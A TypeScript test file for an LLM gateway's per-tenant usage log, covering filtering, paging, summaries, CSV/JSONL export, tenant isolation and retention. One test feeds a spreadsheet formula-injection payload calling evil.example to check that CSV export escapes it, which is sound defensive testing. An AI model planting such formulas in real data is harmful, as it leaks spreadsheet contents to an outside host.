import { runDurableObjectAlarm } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { csvCell } from "../../src/routes/usage-query";
import { adminFetch, api, chat, ledgerOf, newTenant, settledAll } from "../support/client";

const HELLO = [{ role: "user", content: "Hello there" }];

async function traffic(tenantId: string, key: string): Promise<string[]> {
  const ids: string[] = [];
  for (const model of ["chat-pool", "chat-pool", "chat-main", "chat-deepseek"]) {
    const res = await chat(key, { model, messages: HELLO, max_tokens: 8 });
    expect(res.status).toBe(200);
    ids.push(res.headers.get("x-request-id")!);
  }
  await settledAll(tenantId);
  return ids;
}

describe("the usage log", () => {
  it("is readable by the tenant's own key, newest first, with filters and pages", async () => {
    const { tenantId, key } = await newTenant();
    const ids = await traffic(tenantId, key);
    const all = (await (await api("/usage", key)).json()) as { data: Array<{ requestId: string; scenario: string; costMicros: number }>; has_more: boolean };
    expect(all.data.map((r) => r.requestId).sort()).toEqual([...ids].sort());
    expect(all.has_more).toBe(false);

    const pool = (await (await api("/usage?model=chat-pool", key)).json()) as { data: Array<{ scenario: string; costMicros: number }> };
    expect(pool.data).toHaveLength(2);
    expect(pool.data.every((r) => r.scenario === "chat-pool" && r.costMicros === 16)).toBe(true);

    const first = (await (await api("/usage?limit=3", key)).json()) as { data: Array<{ requestId: string }>; next_cursor: string };
    expect(first.data).toHaveLength(3);
    const second = (await (await api(`/usage?limit=3&cursor=${encodeURIComponent(first.next_cursor)}`, key)).json()) as { data: Array<{ requestId: string }>; has_more: boolean };
    expect(second.data).toHaveLength(1);
    expect(second.has_more).toBe(false);
    expect(new Set([...first.data, ...second.data].map((r) => r.requestId)).size).toBe(4);
  });

  it("sums by model, origin and day", async () => {
    const { tenantId, key } = await newTenant();
    await traffic(tenantId, key);
    const byModel = (await (await api("/usage/summary?group_by=model", key)).json()) as { data: Array<{ group: string; requests: number; costMicros: number }> };
    expect(byModel.data.map((g) => [g.group, g.requests])).toEqual([
      ["chat-deepseek", 1],
      ["chat-main", 1],
      ["chat-pool", 2],
    ]);
    expect(byModel.data.find((g) => g.group === "chat-pool")!.costMicros).toBe(32);
    const byOrigin = (await (await adminFetch(`/tenants/${tenantId}/usage/summary?group_by=origin`)).json()) as { data: Array<{ group: string }> };
    expect(byOrigin.data.map((g) => g.group)).toEqual(["alpha", "beta", "pool"]);
    const byDay = (await (await api("/usage/summary", key)).json()) as { group_by: string; data: Array<{ group: string; requests: number }> };
    expect(byDay.group_by).toBe("day");
    // The UTC days the four requests were admitted on: one day, or two when a midnight fell
    // between them (a test must pass at any time of day).
    const rows = (await (await api("/usage", key)).json()) as { data: Array<{ at: number }> };
    const perDay = new Map<string, number>();
    for (const day of rows.data.map((r) => new Date(r.at).toISOString().slice(0, 10))) perDay.set(day, (perDay.get(day) ?? 0) + 1);
    expect(byDay.data.map((g) => [g.group, g.requests])).toEqual([...perDay].sort(([a], [b]) => a.localeCompare(b)));
    expect(byDay.data.reduce((n, g) => n + g.requests, 0)).toBe(4);
  });

  it("exports CSV and JSON Lines", async () => {
    const { tenantId, key } = await newTenant();
    const ids = await traffic(tenantId, key);
    const csv = await adminFetch(`/tenants/${tenantId}/usage?format=csv`);
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const lines = (await csv.text()).trim().split("\n");
    expect(lines[0]).toBe(
      "requestId,at,keyId,endpoint,scenario,origin,model,stream,promptTokens,cachedTokens,cacheWriteTokens,completionTokens,costMicros,reservedMicros,usageSource,status,outcome,latencyMs,user,metadata,tags,feedback,gates",
    );
    expect(lines).toHaveLength(5);
    const jsonl = await (await api("/usage?format=jsonl", key)).text();
    const rows = jsonl.trim().split("\n").map((l) => JSON.parse(l) as { requestId: string });
    expect(rows.map((r) => r.requestId).sort()).toEqual([...ids].sort());
  });

  it("writes a cell that a spreadsheet would run as a formula as text: a client's user, say", async () => {
    const { tenantId, key } = await newTenant();
    const user = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect((await chat(key, { model: "chat-pool", messages: HELLO, max_tokens: 8, user })).status).toBe(200);
    await settledAll(tenantId);
    const [header, row] = (await (await adminFetch(`/tenants/${tenantId}/usage?format=csv`)).text()).trim().split("\n");
    expect(header!.split(",").at(18)).toBe("user");
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    // Each leading character a spreadsheet reads as a formula; text otherwise, and numbers, as they are.
    expect(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=a,b", "plain", "a=b", -1, 0, null].map(csvCell)).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", `"'=a,b"`, "plain", "a=b", "-1", "0", ""]);
  });

  it("keeps tenants apart", async () => {
    const a = await newTenant();
    const b = await newTenant();
    await traffic(a.tenantId, a.key);
    const seen = (await (await api("/usage", b.key)).json()) as { data: unknown[] };
    expect(seen.data).toEqual([]);
    expect(((await (await api("/budgets", b.key)).json()) as { data: unknown[] }).data).toEqual([]);
    expect((await api("/usage", "tr-nobody-x")).status).toBe(401);
  });

  it("rejects bad queries with the param", async () => {
    const { key } = await newTenant();
    const bad = await api("/usage?from=yesterday", key);
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { param: string } }).error.param).toBe("from");
    const cursor = await api("/usage?cursor=nonsense", key);
    expect(cursor.status).toBe(400);
    expect(((await cursor.json()) as { error: { param: string } }).error.param).toBe("cursor");
    expect((await api("/usage/summary?group_by=colour", key)).status).toBe(400);
  });

  it("drops rows past the tenant's retention when the alarm runs", async () => {
    const { tenantId, key } = await newTenant();
    await adminFetch(`/tenants/${tenantId}`, { method: "PATCH", body: { retentionDays: 1 } });
    const ledger = ledgerOf(tenantId);
    const old = Date.now() - 3 * 86_400_000;
    const base = { keyId: "key_x", endpoint: "chat" as const, scenario: "chat-pool", origin: "pool", model: "m", stream: false, promptTokens: 1, cachedTokens: 0, cacheWriteTokens: 0, completionTokens: 1, costMicros: 2, usageSource: "origin" as const, status: 200, outcome: "ok", latencyMs: 1 };
    await ledger.settle({ ...base, requestId: "old", at: old });
    // An expired reservation gives the alarm a reason to run.
    await ledger.admit({ key, requestId: "expiring", at: Date.now(), model: "chat-pool", reserve: { endpoint: "chat", scenario: "chat-pool", stream: false, promptTokensUpper: 1, requestedOutputCap: 1, choices: 1, defaultOutputCap: 1, minOutputTokens: 1, prices: { input: 0, cachedInput: 0, cacheWrite: 0, output: 0 }, holdMs: 60_000 } });
    expect(await runDurableObjectAlarm(ledger)).toBe(true);
    expect(await ledger.usageOf("old")).toBeNull();
    expect(await ledger.usageOf("expiring")).not.toBeNull();
  });
});
